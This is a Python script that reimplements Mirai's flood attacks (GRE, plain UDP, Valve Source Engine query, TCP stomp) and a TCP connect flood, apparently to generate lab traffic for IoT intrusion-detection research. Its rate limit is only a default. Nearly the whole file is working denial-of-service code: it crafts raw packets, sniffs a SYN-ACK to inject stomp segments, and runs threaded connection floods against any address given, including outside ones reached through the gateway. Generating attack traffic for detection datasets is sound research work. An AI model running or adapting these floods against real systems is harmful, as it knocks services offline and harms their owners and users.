#!/usr/bin/env python3
"""Mirai's attack vectors and CICIoT2023's connect flood, built frame by frame
(standard library only), for lab/lib/floods5.sh.

Mirai's vectors (bot/attack_gre.c, attack_udp.c, attack_tcp.c of the
published source) write whole IP packets to raw sockets; here each frame is
built the same way and written to the namespace's eth0 through an AF_PACKET
socket, addressed to the MAC given on the command line (the victim's, or the
gateway's for a flood at an outside address: no route is needed or added).

- `greip`: GRE (RFC 2784, no options) carrying IPv4 + UDP with a random
  512-byte payload, inner ports random per packet (as attack_gre_ip's
  defaults); the inner source is the sender and the inner destination the
  victim, which is NOT what attack_gre_ip writes: its inner source is
  always random (fixed for the attack), and its inner destination random
  per packet unless the "gcip" option makes it the victim.
- `greeth`: the same with GRE protocol 0x6558 (transparent Ethernet
  bridging) and an inner Ethernet header with random MACs (attack_gre_eth;
  the same inner addresses as greip, likewise not Mirai's default).
- `udpplain`: Mirai's plain UDP flood: one socket per target, a random
  source and destination port fixed for the attack, random 512-byte
  payloads, IP id counting up as the kernel's does (attack_udp_plain).
- `vse`: Valve Source Engine query flood: "\\xff\\xff\\xff\\xffTSource Engine
  Query\\0" to UDP 27015 from a random source port per packet
  (attack_udp_vse).
- `stomp`: connect() to the port, read the server's SYN-ACK off the wire,
  then flood ACK+PSH segments with 768 random bytes on that connection's
  ports, with the sequence and acknowledgement numbers attack_tcp_stomp
  writes (the SYN-ACK's, byte-swapped through htons: outside the window).
- `connect`: CICIoT2023's "TCP flood": complete handshakes closed at once,
  no data, from several threads.

Frames go only out of eth0 to the addresses given; rates are bounded.
"""
import argparse
import os
import random
import socket
import struct
import threading
import time

from frames import checksum, if_mac, mac_bytes

ETH_P_IP = 0x0800
ETH_P_ALL = 0x0003


def if_ip(ifname: str) -> str:
    import fcntl
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    raw = fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", ifname.encode()[:15]))  # SIOCGIFADDR
    return socket.inet_ntoa(raw[20:24])


def ipv4(src: bytes, dst: bytes, proto: int, body: bytes, ident: int, ttl: int = 64) -> bytes:
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), ident & 0xFFFF, 0x4000, ttl, proto, 0, src, dst)
    return hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:] + body


def udp(src: bytes, dst: bytes, sport: int, dport: int, payload: bytes) -> bytes:
    n = 8 + len(payload)
    seg = struct.pack("!HHHH", sport, dport, n, 0) + payload
    csum = checksum(src + dst + struct.pack("!BBH", 0, 17, n) + seg) or 0xFFFF
    return seg[:6] + struct.pack("!H", csum) + seg[8:]


def tcp(src: bytes, dst: bytes, sport: int, dport: int, seq: bytes, ack: bytes, flags: int, window: int,
        payload: bytes) -> bytes:
    """A TCP segment with 12 zero option bytes (data offset 8, as Mirai's stomp header is laid out);
    `seq` and `ack` are the four bytes written to the wire."""
    seg = struct.pack("!HH4s4sBBHHH", sport, dport, seq, ack, 8 << 4, flags, window, 0, 0) + bytes(12) + payload
    csum = checksum(src + dst + struct.pack("!BBH", 0, 6, len(seg)) + seg)
    return seg[:16] + struct.pack("!H", csum) + seg[18:]


class Wire:
    """eth0 as an AF_PACKET socket: frames from this NIC's MAC to `dst_mac`."""

    def __init__(self, dst_mac: str, ifname: str = "eth0"):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((ifname, 0))
        self.head = mac_bytes(dst_mac) + if_mac(ifname) + struct.pack("!H", ETH_P_IP)
        self.src = socket.inet_aton(if_ip(ifname))

    def send(self, packet: bytes) -> None:
        try:
            self.sock.send(self.head + packet)
        except OSError:
            pass  # a full queue drops the frame, as a raw socket would


def paced(count: int, rate: float):
    """Yield 0..count-1 at `rate` a second (sleeping in 10 ms steps)."""
    start = time.monotonic()
    for i in range(count):
        yield i
        if i % 16 == 15:
            wait = start + (i + 1) / rate - time.monotonic()
            if wait > 0:
                time.sleep(wait)


def cmd_gre(a, eth: bool) -> None:
    w = Wire(a.dst_mac)
    dst = socket.inet_aton(a.dst)
    rnd = random.Random(a.seed)
    for i in paced(a.count, a.rate):
        inner_udp = udp(w.src, dst, rnd.randrange(65536), rnd.randrange(65536), os.urandom(a.size))
        inner = ipv4(w.src, dst, 17, inner_udp, rnd.randrange(65536))
        if eth:
            # Random MACs, as Mirai's greeth fills them (rand_next per packet).
            frame = os.urandom(6) + os.urandom(6) + struct.pack("!H", ETH_P_IP)
            gre = struct.pack("!HH", 0, 0x6558) + frame + inner
        else:
            gre = struct.pack("!HH", 0, 0x0800) + inner
        w.send(ipv4(w.src, dst, 47, gre, rnd.randrange(65536)))
    print(f"{a.count} GRE ({'eth' if eth else 'ip'}) packets to {a.dst}")


def cmd_udpplain(a) -> None:
    w = Wire(a.dst_mac)
    dst = socket.inet_aton(a.dst)
    rnd = random.Random(a.seed)
    sport, dport = rnd.randrange(1024, 65536), a.port or rnd.randrange(1024, 65536)
    ident = rnd.randrange(65536)
    for i in paced(a.count, a.rate):
        w.send(ipv4(w.src, dst, 17, udp(w.src, dst, sport, dport, os.urandom(a.size)), ident + i))
    print(f"{a.count} datagrams {sport} -> {a.dst}:{dport}")


def cmd_vse(a) -> None:
    w = Wire(a.dst_mac)
    dst = socket.inet_aton(a.dst)
    rnd = random.Random(a.seed)
    query = b"\xff\xff\xff\xffTSource Engine Query\x00"
    for i in paced(a.count, a.rate):
        w.send(ipv4(w.src, dst, 17, udp(w.src, dst, rnd.randrange(1024, 65536), 27015, query), rnd.randrange(65536)))
    print(f"{a.count} TSource Engine Queries to {a.dst}:27015")


def cmd_stomp(a) -> None:
    w = Wire(a.dst_mac)
    dst = socket.inet_aton(a.dst)
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    sniff.bind(("eth0", 0))
    sniff.settimeout(0.2)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect((a.dst, a.port))
    lport = s.getsockname()[1]
    seq = ack = None
    deadline = time.monotonic() + 5
    while seq is None and time.monotonic() < deadline:
        try:
            f = sniff.recv(2048)
        except socket.timeout:
            continue
        ihl = (f[14] & 0xF) * 4
        if f[23] != 6 or f[26:30] != dst:
            continue
        t = 14 + ihl
        sp, dp, tseq, tack = struct.unpack("!HHII", f[t:t + 12])
        flags = f[t + 13]
        if sp == a.port and dp == lport and flags & 0x12 == 0x12:
            # Mirai keeps the SYN-ACK's sequence and acknowledgement
            # numbers in host order (ntohl), as attack_tcp_stomp does.
            seq, ack = tseq, tack
    if seq is None:
        raise SystemExit("no SYN-ACK seen")
    # attack_tcp_stomp then writes `tcph->seq = htons(seq++)` and
    # `tcph->ack_seq = htons(ack_seq)`: htons keeps the low 16 bits and
    # swaps them, and the 32-bit field is stored little-endian. The segments
    # fall outside the connection's window; the receiver drops them.
    def mangle(v: int) -> bytes:
        v &= 0xFFFF
        return struct.pack("<I", ((v & 0xFF) << 8) | (v >> 8))

    window = random.Random(a.seed).randrange(65536)
    for i in paced(a.count, a.rate):
        seg = tcp(w.src, dst, lport, a.port, mangle(seq + i), mangle(ack), 0x18, window, os.urandom(a.size))
        w.send(ipv4(w.src, dst, 6, seg, random.randrange(65536)))
    print(f"{a.count} ACK+PSH segments into {lport} -> {a.dst}:{a.port}")
    s.close()


def cmd_connect(a) -> None:
    done = [0]
    lock = threading.Lock()
    per_thread = a.rate / a.threads
    stop = time.monotonic() + a.seconds

    def worker():
        start = time.monotonic()
        n = 0
        while time.monotonic() < stop:
            with lock:
                if done[0] >= a.count:
                    return
                done[0] += 1
            try:
                c = socket.create_connection((a.dst, a.port), timeout=2)
                c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 0, 0))
                c.close()
            except OSError:
                pass
            n += 1
            wait = start + n / per_thread - time.monotonic()
            if wait > 0:
                time.sleep(wait)

    threads = [threading.Thread(target=worker) for _ in range(a.threads)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"{done[0]} connections to {a.dst}:{a.port}")


def main() -> None:
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    for name in ("greip", "greeth", "udpplain", "vse", "stomp", "connect"):
        s = sub.add_parser(name)
        s.add_argument("--dst", required=True)
        s.add_argument("--dst-mac", help="the MAC frames go to (the victim's, or the gateway's for an outside address)")
        s.add_argument("--port", type=int, default=0)
        s.add_argument("--rate", type=float, default=2000, help="packets (connections) per second")
        s.add_argument("--count", type=int, default=6000)
        s.add_argument("--size", type=int, default=512, help="payload bytes")
        s.add_argument("--seed", type=int, default=5)
        s.add_argument("--threads", type=int, default=8)
        s.add_argument("--seconds", type=float, default=10)
    a = p.parse_args()
    if a.cmd != "connect" and not a.dst_mac:
        p.error("--dst-mac is required")
    {"greip": lambda a: cmd_gre(a, False), "greeth": lambda a: cmd_gre(a, True), "udpplain": cmd_udpplain,
     "vse": cmd_vse, "stomp": cmd_stomp, "connect": cmd_connect}[a.cmd](a)


if __name__ == "__main__":
    main()
